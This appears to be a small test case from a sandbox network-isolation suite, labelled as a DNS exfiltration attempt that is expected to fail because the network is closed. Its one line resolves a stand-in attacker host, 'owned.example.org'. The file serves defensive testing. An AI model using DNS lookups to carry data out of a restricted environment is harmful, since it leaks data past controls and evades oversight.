# attack: carries data out by asking a name server for a name
# exercise: first-network
# expect: failed
# stopped by: the network is closed here
# needs: network
import socket

socket.getaddrinfo("owned.example.org", 80)
# honest
